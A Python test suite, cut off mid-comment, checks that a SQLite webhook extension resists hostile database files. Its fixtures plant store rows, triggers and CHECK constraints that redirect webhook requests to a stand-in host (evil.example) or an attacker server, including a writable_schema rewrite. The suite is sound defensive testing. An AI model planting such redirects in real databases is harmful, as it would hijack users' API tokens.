"""Hostile database files (issue 9): a file is data, never instructions; nothing it holds can
spend the victim's token.

Each test builds a file as an attacker would (Python's sqlite3 or the sqlite3 shell, without the
extension, or with it and the attacker's own token or none), then runs a victim session on it
(the sqlite3 shell with PRAGMA trusted_schema=OFF and `.dbconfig defensive on`) that does the
documented work: INSERT ... SELECT into apify_webhooks, SELECT from it, the retry recipe of
sql/retry_failed.sql, UPDATE and DELETE. The emulator's log (or the raw bytes a small local
server received) then proves that nothing the attacker wrote was sent, and that the victim got
their own webhook or a clear error, never a silent fake success.

    1. rows planted in the extension's tables     Planted
    2. triggers and views on the store            StoreObjects
    3. a same-named table in main or ATTACHed     Shadowing
    4. CHECK constraints that name the functions  CheckConstraints
    5. the network around the request             Proxy, ServerText, KeyLog
    6. stalls a server can cause                  Stalls
    7. the no-token message                       NoToken
"""

import json
import os
import re
import socket
import sqlite3
import tempfile
import threading
import time
import unittest

from tests.harness import (Emulator, EmulatorCase, connect, local_rows, self_signed_cert,
                           shell, sqlite_version, start_shell)

CHECK_REFUSED_FROM = (3, 53, 0)   # SQLite refuses DIRECTONLY functions in CHECK from here

VICTIM = "tok-VICTIM-Vq7Zk2Lp9Wz4Rk8Vt3Nh6Yb1"      # distinctive: found anywhere, it leaked
ATTACKER = "tok-ATTACKER-Ax9Qm2Lp9Wz4Rk8Vt3Nh6Yb2"
EVIL = "https://evil.example/steal"
# The victim's session starts like this: the defences the README asks for.
PRELUDE = "PRAGMA trusted_schema=OFF;\n.dbconfig defensive on\n"
ACTOR = "VictimActor00001"
OWN = {"requestUrl": "https://victim.example/hook", "eventTypes": ["ACTOR.RUN.SUCCEEDED"],
       "condition": {"actorId": ACTOR}}
# The documented bulk INSERT ... SELECT, on the victim's own actors table.
ACTORS = ("CREATE TABLE IF NOT EXISTS actors(actor_id TEXT);\n"
          "INSERT INTO actors VALUES ('" + ACTOR + "');\n")
BULK = ("INSERT INTO apify_webhooks(request_url, event_types, actor_id)"
        " SELECT 'https://victim.example/hook', '[\"ACTOR.RUN.SUCCEEDED\"]', actor_id"
        " FROM actors;\n")
RETRY = "INSERT INTO apify_webhooks(webhook) SELECT webhook FROM apify_webhooks" \
        " WHERE status = 'failed';\n"
# store.c's zStoreSchema for the table apify_webhooks: what an attacker copies into a file.
STORE = ("CREATE TABLE \"apify_webhooks_store\"("
         "seq INTEGER PRIMARY KEY, idempotency_key TEXT UNIQUE, origin TEXT, request TEXT,"
         " status TEXT NOT NULL, operation TEXT NOT NULL, generation INTEGER NOT NULL DEFAULT 1,"
         " id TEXT UNIQUE, http_status INTEGER, location TEXT, error_type TEXT,"
         " error_message TEXT, response TEXT, attempts INTEGER NOT NULL DEFAULT 0,"
         " queued_at TEXT, completed_at TEXT, pending TEXT, pending_stamp INTEGER, mac BLOB)")
NO_TOKEN = ("apify: no API token; set APIFY_TOKEN in the environment before loading the "
            "extension")


def q(value):
    """A SQL string literal."""
    if not isinstance(value, str):
        value = json.dumps(value, separators=(",", ":"))
    return "'" + value.replace("'", "''") + "'"


def errors(r):
    """The error messages the shell printed, without its "... error near line N: " prefix."""
    out = []
    for line in r.err.splitlines():
        m = re.match(r"^(?:Runtime|Parse) error near line \d+: (.*)$", line)
        out.append(m.group(1) if m else line)
    return out


def output(r):
    """The shell's stdout lines, without the line `.dbconfig defensive on` prints."""
    return [line for line in r.lines if line.strip() != "defensive on"]


def stripped(r):
    """The shell's stdout lines without the padding of `.mode line`."""
    return [line.strip() for line in r.lines]


def plant(db, *statements):
    """Write a file as an attacker would: Python's sqlite3, no extension."""
    conn = sqlite3.connect(db)
    try:
        for sql in statements:
            if isinstance(sql, tuple):
                conn.execute(*sql)
            else:
                conn.executescript(sql)
        conn.commit()
    finally:
        conn.close()


def planted_record(key, request, status, **cols):
    """An INSERT of one record into the store, with the columns an attacker chooses."""
    row = dict(idempotency_key=key, origin=json.dumps(request), request=json.dumps(request),
               status=status, operation="create", **cols)
    names = ", ".join(row)
    return (f"INSERT INTO apify_webhooks_store({names}) VALUES "
            f"({', '.join('?' for _ in row)})", tuple(row.values()))


def file_objects(db):
    """(type, name) of every schema object of a file, read without the extension."""
    conn = sqlite3.connect(db)
    try:
        return set(conn.execute("SELECT type, name FROM sqlite_schema"))
    finally:
        conn.close()


class HostileCase(EmulatorCase):
    """One emulator that knows the victim's and the attacker's tokens (two accounts)."""
    tokens = [VICTIM, ATTACKER]

    def path(self, name):
        return os.path.join(self.tmp.name, name)

    def victim(self, sql, db=None, **kwargs):
        kwargs.setdefault("token", VICTIM)
        return shell(PRELUDE + sql, self.emu, db=db or self.db, **kwargs)

    def attacker(self, sql, db=None, **kwargs):
        """The attacker's own session with the extension, on their own account."""
        r = shell(sql, self.emu, db=db or self.db, token=ATTACKER, **kwargs)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        return r

    def rows(self, db=None):
        return local_rows(db or self.db, self.emu, token=VICTIM)

    def bodies(self):
        """The JSON bodies of every POST the emulator received."""
        return [json.loads(e["body"]) for e in self.emu.posts()]

    def assertOnlyOwnSent(self, n_own=1, url=OWN["requestUrl"], n_posts=None):
        """Every request the emulator received (n_posts, default n_own) is a POST of the
        victim's own webhook, made with a token it accepts, nothing names the attacker's URL,
        and n_own webhooks exist."""
        log = self.emu.log()
        self.assertNotIn("evil.example", json.dumps(log))
        self.assertEqual([(e["method"], e["path"], e["auth"]) for e in log],
                         [("POST", "/v2/webhooks", "valid")] * (n_posts or n_own), log)
        for body in self.bodies():
            self.assertEqual(body["requestUrl"], url, body)
        hooks = self.emu.webhooks()
        self.assertEqual(len(hooks), n_own, hooks)
        self.assertEqual({w["requestUrl"] for w in hooks}, {url} if n_own else set())


# -- 1. rows planted in the extension's own tables ---------------------------------------------

class Planted(HostileCase):

    def test_planted_failed_records_are_not_resent_by_the_retry_recipe(self):
        # Two planted failed records: one written by hand (no MAC), one written by the extension
        # under the attacker's token (a genuine failure of the attacker's account, its URL then
        # pointed at the attacker), and one failed record of the victim's own.
        self.emu.configure(script=["500"])
        self.attacker("SELECT apify_config('max_attempts', 1);\n" + ACTORS
                      + BULK.replace("victim.example/hook", "evil.example/steal2"))
        plant(self.db, planted_record("planted-failed", dict(OWN, requestUrl=EVIL), "failed",
                                      http_status=503, error_type="server-error", attempts=1))
        self.emu.reset()
        self.emu.configure(script=["500"])
        r = self.victim("SELECT apify_config('max_attempts', 1);\n" + ACTORS + BULK)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        self.emu.reset()
        r = self.victim(".mode list\nSELECT rowid, status, verified, request_url"
                        " FROM apify_webhooks ORDER BY rowid;\n" + RETRY
                        + "SELECT rowid, status, verified, id IS NOT NULL"
                        " FROM apify_webhooks ORDER BY rowid;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), [
            "1|unverified|0|https://evil.example/steal2",
            f"2|unverified|0|{EVIL}",
            "3|failed|1|https://victim.example/hook",
            "1|unverified|0|0", "2|unverified|0|0", "3|created|1|1"])
        self.assertOnlyOwnSent()
        # The planted records are still there, still not acted on.
        r = self.victim(RETRY)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        self.assertOnlyOwnSent()

    def test_planted_created_record_does_not_stand_in_for_the_victims_webhook(self):
        # The attacker makes exactly the request the victim will make (same body, same derived
        # idempotency key) on their own account, then points the record at a fake id; a second
        # file gets the same record written by hand.
        by_attacker, by_hand = self.path("a.db"), self.path("b.db")
        self.attacker(ACTORS + BULK, db=by_attacker)
        plant(by_attacker, "UPDATE apify_webhooks_store SET id='FakeFakeFakeFake1',"
                           " location='https://api.apify.com/v2/webhooks/FakeFakeFakeFake1'")
        key = self.emu.webhooks()[0]["idempotencyKey"]
        plant(by_hand, STORE, planted_record(key, dict(OWN, idempotencyKey=key), "created",
                                             id="FakeFakeFakeFake1", http_status=201))
        for db in (by_attacker, by_hand):
            with self.subTest(db=os.path.basename(db)):
                self.emu.reset()
                r = self.victim(ACTORS + BULK + ".mode list\nSELECT rowid, id, status, verified,"
                                " idempotency_key FROM apify_webhooks;\n", db=db)
                self.assertEqual(r.err, "", r)
                self.assertOnlyOwnSent()
                [hook] = self.emu.webhooks()
                self.assertEqual(hook["idempotencyKey"], key)
                self.assertEqual(output(r), [f"1|{hook['id']}|created|1|{key}"])
                self.assertNotEqual(hook["id"], "FakeFakeFakeFake1")

    def test_tables_named_like_the_queue_are_ignored(self):
        # The old queue table, tables named like the new TEMP queue in main, and a table whose
        # very name is "temp.apify_queue_1": rows in the shapes the extension used or uses.
        entry = ("1", "1", "create", json.dumps(dict(OWN, requestUrl=EVIL)), "0", "x")
        plant(self.db,
              "CREATE TABLE apify_webhooks_queue(seq INTEGER PRIMARY KEY, body TEXT,"
              " idempotency_key TEXT, queued_at TEXT);",
              ("INSERT INTO apify_webhooks_queue(body, idempotency_key) VALUES (?, 'q1')",
               (json.dumps(dict(OWN, requestUrl=EVIL)),)),
              *[f"CREATE TABLE {name}(stamp INTEGER PRIMARY KEY, seq INTEGER, op TEXT,"
                " body TEXT, pos INTEGER, seal BLOB);" for name in
                ('"apify_queue_0"', '"apify_queue_1"', '"temp.apify_queue_1"')],
              *[(f"INSERT INTO {name} VALUES (?,?,?,?,?,?)", entry) for name in
                ('"apify_queue_0"', '"apify_queue_1"', '"temp.apify_queue_1"')])
        r = self.victim(ACTORS + BULK + "SELECT count(*) FROM apify_webhooks;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), ["1"])
        self.assertOnlyOwnSent()
        # A second transaction, with a COMMIT of its own, sends nothing more.
        r = self.victim("BEGIN;\n" + BULK + "COMMIT;\n")
        self.assertEqual((r.rc, r.err), (0, ""), r)
        self.assertOnlyOwnSent()

    def test_planted_pending_columns_are_never_sent(self):
        # Records whose pending columns name an operation, with stamps the victim's own queue
        # entries will have (1, 2, 3), in every status.
        plant(self.db, STORE, *[
            planted_record(f"pend-{i}", dict(OWN, requestUrl=EVIL + str(i)), status,
                           pending=op, pending_stamp=i, id=f"Planted{i}")
            for i, (status, op) in enumerate([("pending", "create"), ("created", "update"),
                                              ("failed", "create"), ("created", "delete")], 1)])
        r = self.victim(ACTORS + BULK + "BEGIN;\n" + BULK.replace("/hook", "/hook2")
                        + "UPDATE apify_webhooks SET description = 'mine' WHERE"
                        " request_url LIKE '%victim.example/hook2';\nCOMMIT;\n"
                        ".mode list\nSELECT status, verified, count(*) FROM apify_webhooks"
                        " GROUP BY 1, 2 ORDER BY 1;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), ["created|1|2", "unverified|0|4"])
        log = self.emu.log()
        self.assertNotIn("evil.example", json.dumps(log))
        self.assertEqual([(e["method"], e["path"]) for e in log], [("POST", "/v2/webhooks")] * 2)
        self.assertEqual(sorted((b["requestUrl"], b.get("description")) for b in self.bodies()),
                         [("https://victim.example/hook", None),
                          ("https://victim.example/hook2", "mine")])

    def test_planted_generation_does_not_change_the_key_sent(self):
        # A record for exactly the victim's key, as a tombstone or a failure of a later
        # generation: the create the victim's INSERT sends must be the one it sends on a fresh
        # file (same body, same idempotency key), or a re-run elsewhere makes a second webhook.
        fresh = self.path("fresh.db")
        r = self.victim(ACTORS + BULK, db=fresh)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        [expected] = self.bodies()
        key = expected["idempotencyKey"]
        # (2147483647: a tombstone's next generation overflows a C int, undefined behaviour
        # that make test-asan stops on.)
        for status, generation in (("deleted", 7), ("failed", 5), ("created", 3),
                                   ("deleted", 2147483647)):
            with self.subTest(status=status, generation=generation):
                self.emu.reset()
                db = self.path(f"{status}-{generation}.db")
                plant(db, STORE, planted_record(key, dict(OWN, idempotencyKey=key), status,
                                                generation=generation, id="Planted1"))
                r = self.victim(ACTORS + BULK + ".mode list\nSELECT status, verified,"
                                " idempotency_key FROM apify_webhooks;\n", db=db)
                self.assertEqual(r.err, "", r)
                self.assertEqual(self.bodies(), [expected])
                self.assertEqual(output(r), [f"created|1|{key}"])

    def test_adopting_the_webhook_a_planted_record_names(self):
        # The way out the refusal names: adopt the webhook; the record then holds what the
        # API says, not what the file said.
        real = self.plant_over_a_real_webhook()
        log = len(self.emu.log())
        r = self.victim(f"INSERT INTO apify_webhooks(id) VALUES ({q(real)});\n"
                        ".mode list\nSELECT id, status, verified, request_url FROM apify_webhooks"
                        " WHERE id IS NOT NULL;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), [f"{real}|created|1|{OWN['requestUrl']}"])
        self.assertEqual([(e["method"], e["path"]) for e in self.emu.log()[log:]],
                         [("GET", f"/v2/webhooks/{real}")])

    def test_planted_record_holding_the_id_the_api_answers_with(self):
        # The victim's webhook exists already (made from another file: same request, same
        # key); the file holds a planted record with its id (ids are not secret). The victim's
        # INSERT gets that id back from the API: the row must say so, not show the planted
        # record as theirs, and the retry recipe completes it once the planted record is gone.
        r = self.victim(ACTORS + BULK, db=self.path("other.db"))
        self.assertEqual((r.rc, r.err), (0, ""), r)
        [hook] = self.emu.webhooks()
        plant(self.db, STORE, planted_record("planted", dict(OWN, requestUrl=EVIL), "created",
                                             id=hook["id"], http_status=201))
        r = self.victim(ACTORS + BULK + ".mode list\nSELECT rowid, id, status, verified,"
                        " error_message FROM apify_webhooks ORDER BY rowid;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), [
            f"1|{hook['id']}|unverified|0|",
            f"2||failed|1|the API answered with webhook {hook['id']}, which record 1 already"
            " holds"])
        r = self.victim("DELETE FROM apify_webhooks_store WHERE seq = 1;\n" + RETRY
                        + ".mode list\nSELECT rowid, id, status, verified FROM apify_webhooks;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), [f"2|{hook['id']}|created|1"])
        self.assertOnlyOwnSent(1, n_posts=3)    # the same key each time: one webhook

    def test_a_planted_record_that_is_not_json_is_named_and_sends_nothing(self):
        # One planted record whose request is not JSON: reading the table says what it is and
        # how to remove it (never a bare "malformed JSON"), nothing is sent; once it is
        # forgotten the victim reads the table, runs the retry recipe and adds their own.
        plant(self.db, STORE, planted_record("broken", {}, "failed"),
              "UPDATE apify_webhooks_store SET request = 'not json', origin = 'not json'")
        r = self.victim(".mode list\nSELECT rowid, status, verified FROM apify_webhooks;\n"
                        + RETRY)
        message = ('apify: a record of "apify_webhooks_store" holds a request that is not JSON:'
                   ' the extension did not write it; forget such records with DELETE FROM'
                   ' "apify_webhooks_store" WHERE NOT json_valid(request)')
        self.assertEqual(errors(r), [message, message], r)
        self.assertOnlyOwnSent(0)
        r = self.victim("DELETE FROM apify_webhooks_store WHERE NOT json_valid(request);\n"
                        ".mode list\n" + RETRY + ACTORS + BULK
                        + "SELECT rowid, status, verified FROM apify_webhooks ORDER BY rowid;\n")
        self.assertEqual(r.err, "", r)
        self.assertEqual(output(r), ["1|created|1"])   # the forgotten record's seq is reused
        self.assertOnlyOwnSent(1)

    def plant_over_a_real_webhook(self):
        """A planted `created` record that names a webhook the victim really has (ids are not
        secret: they are in every dispatch), and a planted `failed` one. Returns the id."""
        resp = self.emu.request("POST", "/v2/webhooks", OWN, token=VICTIM)
        self.assertEqual(resp.status, 201, resp)
        real = resp.json()["data"]["id"]
        plant(self.db, STORE,
              planted_record("planted-created", dict(OWN, requestUrl=EVIL), "created", id=real,
                             http_status=201),
              planted_record("planted-failed", dict(OWN, requestUrl=EVIL + "2"), "failed",
                             http_status=503))
        return real

    def assertNotVerified(self, r, seq, webhook_id):
        [message] = errors(r)
        self.assertEqual(
            message,
            f"apify: row 1: the record of webhook {webhook_id} is not verified: this extension"
            " did not write it for this account (or wrote it under another token), so nothing"
            " is sent for it; adopt the webhook to manage it (INSERT INTO apify_webhooks(id)"
            f" VALUES ('{webhook_id}')), or forget the record (DELETE FROM"
            f" \"apify_webhooks_store\" WHERE seq={seq})")

    def test_planted_created_record_cannot_be_updated_or_deleted(self):
        real = self.plant_over_a_real_webhook()
        log = len(self.emu.log())
        for sql in ("UPDATE apify_webhooks SET request_url = 'https://victim.example/new'"
                    " WHERE status = 'unverified' AND id IS NOT NULL;\n",
                    "DELETE FROM apify_webhooks WHERE id IS NOT NULL;\n"):
            with self.subTest(sql):
                r = self.victim(sql)
                self.assertNotVerified(r, 1, real)
        self.assertEqual(len(self.emu.log()), log, "a request was sent")
        self.assertEqual([w["id"] for w in self.emu.webhooks()], [real])
        self.assertEqual(len(self.rows()), 2)

    def test_planted_failed_record_cannot_be_updated(self):
        self.plant_over_a_real_webhook()
        log = len(self.emu.log())
        r = self.victim("UPDATE apify_webhooks SET description = 'mine' WHERE id IS NULL;\n")
        [message] = errors(r)
        # the planted record has no webhook id: it is named by its seq
        self.assertTrue(message.startswith("apify: row 1: the record 2 is not verified"), message)
        self.assertIn("is not verified", message)
        # The hint must not tell the user to adopt an id that is not one.
        self.assertNotIn("VALUES (''))", message)
        self.assertEqual(len(self.emu.log()), log, "a request was sent")
        self.assertEqual(len(self.rows()), 2)

    def test_planted_failed_record_is_forgotten_by_delete_and_nothing_is_sent(self):
        # A record that never became a webhook is forgotten by DELETE, whoever wrote it: that
        # is local, and sends nothing (a created one that is not verified is refused instead).
        self.plant_over_a_real_webhook()
        log = len(self.emu.log())
        r = self.victim("DELETE FROM apify_webhooks WHERE id IS NULL;\n")
        self.assertEqual(errors(r), [], r)
        self.assertEqual(len(self.emu.log()), log, "a request was sent")
        self.assertEqual(len(self.rows()), 1)


# -- 2. triggers and views in place of the store -----------------------------------------------

class StoreObjects(HostileCase):

    REFUSED = ('apify: {row}trigger "{name}" in database "main" is a trigger on {table}\'s store'
               ' "{table}_store"; the extension refuses a store it does not own alone:'
               ' DROP TRIGGER "main"."{name}"')

    def test_triggers_on_the_store_are_refused_by_name(self):
        # A file with no rows at all: only the store, and triggers that would rewrite the
        # request between validation and sending, queue more, or fake statuses.
        evil = q(dict(OWN, requestUrl=EVIL))
        triggers = {
            "rewrite": "AFTER UPDATE ON apify_webhooks_store BEGIN UPDATE apify_webhooks_store"
                       f" SET request = {evil}, origin = {evil}; END",
            "add_more": "AFTER INSERT ON apify_webhooks_store BEGIN INSERT INTO"
                        " apify_webhooks_store(idempotency_key, origin, request, status,"
                        f" operation) VALUES ('more', {evil}, {evil}, 'failed', 'create'); END",
            "fake_status": "BEFORE DELETE ON apify_webhooks_store BEGIN SELECT 1; END",
        }
        for name, body in triggers.items():
            with self.subTest(name):
                db = self.path(f"{name}.db")
                plant(db, STORE + f";\nCREATE TRIGGER {name} {body};")
                r = self.victim(ACTORS + BULK + "SELECT count(*) FROM apify_webhooks;\n", db=db)
                message = self.REFUSED.format(name=name, table="apify_webhooks", row="{row}")
                self.assertEqual(errors(r), [message.format(row="row 1: "),
                                             message.format(row="")], r)
                self.assertOnlyOwnSent(0)
                self.assertIn(("trigger", name), file_objects(db))
                # Once the user drops it, their own INSERT goes through.
                r = self.victim(f"DROP TRIGGER {name};\n" + BULK, db=db)
                self.assertEqual((r.rc, r.err), (0, ""), r)
                self.assertOnlyOwnSent(1)
                self.emu.reset()

    def test_trigger_on_a_named_tables_store(self):
        # CREATE VIRTUAL TABLE nightly USING apify_webhooks in the file, and a trigger on its
        # store; the victim uses `nightly` from their own SQL.
        r = shell("CREATE VIRTUAL TABLE nightly USING apify_webhooks;\n", db=self.db,
                  token=None)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        plant(self.db, STORE.replace("apify_webhooks_store", "nightly_store") + ";\n"
              "CREATE TRIGGER n_rewrite BEFORE INSERT ON nightly_store BEGIN SELECT 1; END;")
        r = self.victim(ACTORS + BULK.replace("apify_webhooks", "nightly"))
        self.assertEqual(errors(r), [self.REFUSED.format(name="n_rewrite", table="nightly",
                                                         row="row 1: ")], r)
        self.assertOnlyOwnSent(0)

    def test_a_view_named_like_the_store_is_refused(self):
        plant(self.db, "CREATE TABLE decoy(x);\n"
                       "CREATE VIEW apify_webhooks_store AS SELECT * FROM decoy;")
        r = self.victim(ACTORS + BULK + "SELECT count(*) FROM apify_webhooks;\n")
        message = ('apify: {}view "apify_webhooks_store" in database "main" stands in for'
                   ' apify_webhooks\'s store "apify_webhooks_store"; the extension refuses a'
                   ' store it does not own alone: DROP VIEW "main"."apify_webhooks_store"')
        self.assertEqual(errors(r), [message.format("row 1: "), message.format("")], r)
        self.assertOnlyOwnSent(0)

    def test_a_store_with_the_files_own_rules_is_refused_before_sending(self):
        # A store of exactly the extension's columns, with rules of the file's: a CHECK, an
        # index whose expression or WHERE fails once a record turns 'created', a UNIQUE index
        # on status, a DEFAULT that changes the generation (and so the idempotency key sent).
        # Each would let the file decide what is sent or make every commit fail after sending
        # (the webhook created, its record rolled back). The store must be refused before
        # anything is sent, naming what to remove.
        boom = "abs(-9223372036854775808)"
        variants = {
            "check": (STORE[:-1] + ", CHECK (status <> 'created'))", "apify_webhooks_store"),
            "expression_index": (STORE + f"; CREATE INDEX boom ON apify_webhooks_store("
                                 f"CASE WHEN status = 'created' THEN {boom} END)", "boom"),
            "partial_index": (STORE + "; CREATE INDEX boom ON apify_webhooks_store(seq)"
                              f" WHERE status = 'created' AND {boom}", "boom"),
            "unique_index": (STORE + "; CREATE UNIQUE INDEX boom ON"
                             " apify_webhooks_store(status)", "boom"),
            "default": (STORE.replace("DEFAULT 1", "DEFAULT 7"), "apify_webhooks_store"),
        }
        for variant, (schema, name) in variants.items():
            with self.subTest(variant):
                self.emu.reset()
                db = self.path(f"{variant}.db")
                plant(db, schema)
                r = self.victim(ACTORS + BULK + BULK.replace("/hook", "/hook2"), db=db)
                self.assertEqual(self.emu.log(), [], f"sent before the store was refused: {r}")
                self.assertRegex(r.err, r"^Runtime error near line \d+: apify: row 1: ", r)
                self.assertIn(f'"{name}"', r.err.splitlines()[0])

    def test_a_store_of_another_shape_is_refused(self):
        plant(self.db, "CREATE TABLE apify_webhooks_store(seq INTEGER PRIMARY KEY,"
                       " request TEXT, status TEXT DEFAULT 'created');")
        r = self.victim(ACTORS + BULK)
        [message] = errors(r)
        self.assertTrue(message.startswith(
            'apify: row 1: table "apify_webhooks_store" in database "main" is not a store of'
            ' this version of the extension'), message)
        self.assertOnlyOwnSent(0)


# -- 3. a table of the same name takes the place of the extension's ----------------------------

class Shadowing(HostileCase):
    """What stays undetectable: SQLite resolves an unqualified name to a table or view of that
    name in temp, main or any attached database before it looks at the eponymous virtual table
    (which lives in main), and no extension code runs while it does. So an unqualified
    `INSERT INTO apify_webhooks ...` after ATTACHing a file that has such a table writes that
    table, and nothing is sent, until the victim next calls apify_config or
    apify_create_webhook or loads the extension again (the checks below). temp.apify_webhooks
    always reaches the extension's table."""

    def shadow(self, db, kind="table", name="apify_webhooks"):
        if kind == "table":
            plant(db, f"CREATE TABLE {name}(request_url, event_types, actor_id, id,"
                      " status DEFAULT 'created');")
        else:
            plant(db, "CREATE TABLE fake(request_url, event_types, actor_id);\n"
                      f"CREATE VIEW {name} AS SELECT *, 'FakeId' AS id, 'created' AS status"
                      " FROM fake;\n"
                      f"CREATE TRIGGER fake_insert INSTEAD OF INSERT ON {name} BEGIN"
                      " INSERT INTO fake VALUES (new.request_url, new.event_types,"
                      " new.actor_id); END;")

    def test_a_same_named_object_in_the_file_stops_the_load(self):
        for kind, name in (("table", "apify_webhooks"), ("view", "apify_webhooks"),
                           ("table", "apify_remote_webhooks"),
                           ("table", "apify_webhook_dispatches")):
            with self.subTest(kind=kind, name=name):
                db = self.path(f"{kind}-{name}.db")
                self.shadow(db, kind, name)
                r = self.victim(ACTORS + BULK, db=db)
                self.assertEqual(r.err.splitlines()[0],
                                 f'Error: error during initialization: apify: {kind} "{name}"'
                                 f' in database "main" takes the place of the extension\'s'
                                 f" table {name}: statements that name {name} reach it"
                                 f' instead; drop or rename it (ALTER TABLE "main"."{name}"'
                                 " RENAME TO ...) before loading the extension", r)
                self.assertOnlyOwnSent(0)
        # Python's sqlite3: load_extension raises with the same message.
        with self.assertRaisesRegex(sqlite3.OperationalError,
                                    '^error during initialization: apify: table'
                                    ' "apify_webhooks" in database "main" takes'
                                    " the place of the extension's table apify_webhooks"):
            connect(self.emu, db=self.path("table-apify_webhooks.db"), token=VICTIM)

    def test_a_same_named_table_in_an_attached_file(self):
        self.shadow(self.path("shared.db"))
        aux = q(self.path("shared.db"))
        message = ('apify: table "apify_webhooks" in database "aux" takes the place of the'
                   " extension's table apify_webhooks: statements that name apify_webhooks"
                   ' reach it instead; drop or rename it (ALTER TABLE "aux"."apify_webhooks"'
                   " RENAME TO ...), or write temp.apify_webhooks, which always reaches the"
                   " extension")
        own = q(OWN)
        r = self.victim(f"ATTACH {aux} AS aux;\n"
                        "SELECT apify_config('timeout_ms', 30000);\n"
                        f"SELECT apify_create_webhook({own}) ->> 'id';\n"
                        + ACTORS + BULK.replace("apify_webhooks", "temp.apify_webhooks")
                        + ".mode list\nSELECT id, status, verified FROM temp.apify_webhooks;\n")
        self.assertEqual(errors(r), [message, message], r)
        self.assertOnlyOwnSent(1)
        [hook] = self.emu.webhooks()
        self.assertEqual(output(r), [f"{hook['id']}|created|1"])
        # The same check when the shadow is attached through Python's sqlite3.
        conn = connect(self.emu, token=VICTIM, isolation_level=None)
        self.addCleanup(conn.close)
        conn.execute(f"ATTACH {aux} AS aux")
        with self.assertRaises(sqlite3.OperationalError) as caught:
            conn.execute(f"SELECT apify_create_webhook({own})").fetchall()
        self.assertEqual(str(caught.exception), message)
        self.assertOnlyOwnSent(1)


# -- 4. CHECK constraints that name the functions ----------------------------------------------

class CheckConstraints(HostileCase):

    REFUSED = ('apify: table "notes" in database "{db}" has a CHECK constraint that calls {}();'
               " the extension does not send or change settings while a database's schema can:"
               " drop or rebuild that table")

    def test_check_constraints_in_any_spelling(self):
        # The CHECK points base_url at the attacker's server on 127.0.0.1; a note that mentions
        # the function's name (the old LIKE guard let such statements through) fires it.
        trap = RecordingServer(lambda raw: created(raw))
        self.addCleanup(trap.stop)
        target = q(trap.base_url)
        spellings = [   # (the function the guard names, the CHECK's expression)
            ("apify_config", f"apify_config('base_url', {target}) IS NOT NULL"),
            ("apify_config", f'"APIFY_CONFIG"(\'base_url\', {target}) IS NOT NULL'),
            ("apify_config", f"[Apify_Config]('base_url', {target}) IS NOT NULL"),
            ("apify_config", f"`apify_CONFIG` /* x */ ('base_url', {target}) IS NOT NULL"),
            ("apify_config", f"apify_config\n\t(-- )\n'base_url', {target}) IS NOT NULL"),
            ("apify_config", f"x IS NULL OR (length(x) > 0 AND apify_config('base_url', {target})"
                             " IS NOT NULL)"),
            ("apify_create_webhook", "apify_create_webhook(x) IS NOT NULL"),
            ("apify_create_webhook", "APIFY_CREATE_WEBHOOK(replace(x, 'victim.example',"
                                     " 'evil.example')) IS NOT NULL"),
        ]
        spellings.append(("apify_test_webhook", "apify_test_webhook(x) IS NOT NULL"))
        for i, (function, check) in enumerate(spellings):
            for where in ("main", "aux"):
                for build in ("extension", "writable_schema"):
                    if function == "apify_test_webhook" and build == "extension":
                        continue    # not a function of a release build: CREATE TABLE refuses
                    with self.subTest(check=check, where=where, build=build):
                        self.emu.reset()
                        db = self.path(f"ck{i}-{where}-{build}.db")
                        if self.check_file(db, f"x TEXT, CONSTRAINT c CHECK ({check})", build):
                            self.victim_on(db, where, function, trap)

    def check_file(self, db, columns, build):
        """A file with the table notes(columns), built as an attacker would: with the extension
        loaded and no token (SQLite 3.40 refuses an unknown function in a CHECK at CREATE
        TABLE), or without it, by rewriting sqlite_schema (any SQLite, no extension at all)."""
        if build == "extension":
            r = shell(f"CREATE TABLE notes({columns});\n", self.emu, db=db, token=None)
            if sqlite_version() >= CHECK_REFUSED_FROM:
                # SQLite 3.53 refuses to write such a CHECK with the extension loaded
                self.assertIn("unsafe use of apify_", r.err.lower(), r)
                return False
            self.assertEqual((r.rc, r.err), (0, ""), r)
            return True
        plant(db, "CREATE TABLE notes(x TEXT);")
        conn = sqlite3.connect(db)
        try:
            version = conn.execute("PRAGMA schema_version").fetchone()[0]
            conn.execute("PRAGMA writable_schema=ON")
            conn.execute("UPDATE sqlite_schema SET sql = ? WHERE name = 'notes'",
                         (f"CREATE TABLE notes({columns})",))
            conn.execute(f"PRAGMA schema_version={version + 1}")
            conn.commit()
        finally:
            conn.close()
        return True

    def victim_on(self, db, where, function, trap):
        """The victim's work on db (main) or with db ATTACHed as aux: notes that mention the
        function (the old LIKE guard let such statements through), a setting raised, their own
        webhook through the function and through the table."""
        prefix = (f"ATTACH {q(db)} AS aux;\n" if where == "aux" else "")
        r = self.victim(
            prefix
            + f"INSERT INTO {where}.notes(x) VALUES ('raise the Apify config timeout');\n"
            f"INSERT INTO {where}.notes(x) VALUES ({q(OWN)});\n"
            "SELECT apify_config('timeout_ms', 60000); -- raise the apify config timeout\n"
            f"SELECT apify_create_webhook({q(OWN)}) ->> 'id';\n"
            "SELECT apify_config('base_url');\n" + ACTORS + BULK,
            db=db if where == "main" else ":memory:")
        message = self.REFUSED.format(function, db=where)
        found = errors(r)
        if sqlite_version() >= CHECK_REFUSED_FROM:
            # SQLite 3.53 refuses such a schema itself ("malformed database schema ... unsafe
            # use of ..."; an ATTACHed one is not attached, so its table is missing), where
            # the extension's guard does not answer first; the victim's own work then goes on
            for m in found:
                self.assertTrue(m == message or "unsafe use of apify_" in m.lower()
                                or m == "no such table: aux.notes", m)
            self.assertTrue(found, r)
            self.assertEqual(trap.connections, 0)
            self.assertNotIn(trap.base_url, r.out)
            return
        self.assertEqual(found, [message] * 5, r)
        # Whatever was refused, nothing reached the attacker, and the base URL is still the
        # victim's; the victim's own INSERT into apify_webhooks went to the real base URL.
        self.assertEqual(trap.connections, 0)
        self.assertNotIn(trap.base_url, r.out)
        self.assertOnlyOwnSent(1)

    def test_check_constraint_in_a_column_and_a_table_constraint(self):
        # Two CHECKs, the guarded name only in the second, behind a string that holds a
